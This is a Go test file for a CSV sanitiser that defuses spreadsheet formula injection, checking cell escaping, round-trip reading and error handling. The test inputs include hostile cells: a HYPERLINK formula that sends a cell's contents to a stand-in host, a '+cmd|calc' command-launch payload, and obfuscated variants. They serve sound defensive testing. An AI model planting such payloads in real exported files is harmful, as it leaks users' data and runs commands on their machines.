package clean

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
)

func TestNoCellIsAFormula(t *testing.T) {
	for cell, want := range map[string]string{
		`=HYPERLINK("http://evil/?"&A1,"x")`: `'=HYPERLINK("http://evil/?"&A1,"x")`,
		"+cmd|calc":                          "'+cmd|calc",
		"-1+1":                               "'-1+1",
		"@SUM(1)":                            "'@SUM(1)",
		"\t=1":                               `\u0009=1`,
		"\r=1":                               `\u000d=1`,
		"  =1":                               "'  =1",
		`"=1`:                                `'"=1`,
		"'=1":                                "''=1",
		"\u00a0=1":                           "'\u00a0=1",
		"\u200b=1":                           `\u200b=1`,
		"＝1+1":                               "'＝1+1",
		"lung;=1+1;-2":                       "lung;'=1+1;-2",
		"-1.5":                               "-1.5",
		"+3e-7":                              "+3e-7",
		"-.5":                                "-.5",
		"-7.":                                "-7.",
		" -2":                                " -2",
		"-Inf":                               "-Inf",
		"-1e5e5":                             "'-1e5e5",
		"--1":                                "'--1",
		"-":                                  "'-",
		"-0x10":                              "'-0x10",
		"":                                   "",
		"a=b":                                "a=b",
		"1-1":                                "1-1",
		"2 x 3, h = -1.5":                    "2 x 3, h = -1.5",
	} {
		if got := Cell(cell); got != want {
			t.Errorf("Cell(%q) is %q, want %q", cell, got, want)
		}
	}
}

func TestCSVReadsBack(t *testing.T) {
	var b strings.Builder
	w := NewCSV(&b)
	row := []string{"=x", "a,b", `say "so"`, "-1.5", "x\ny"}
	w.Row(row...)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	back, err := csv.NewReader(strings.NewReader(b.String())).Read()
	if want := []string{"'=x", "a,b", `say "so"`, "-1.5", `x\u000ay`}; err != nil || !slices.Equal(back, want) {
		t.Errorf("%q, %v", back, err)
	}
	if row[0] != "=x" {
		t.Error("the caller's row was changed")
	}
}

func TestCSVReturnsTheErrorOfARow(t *testing.T) {
	w := NewCSV(full{})
	w.Row(strings.Repeat("x", 5000))
	w.Row("y")
	if w.Flush() == nil {
		t.Error("no error")
	}
}
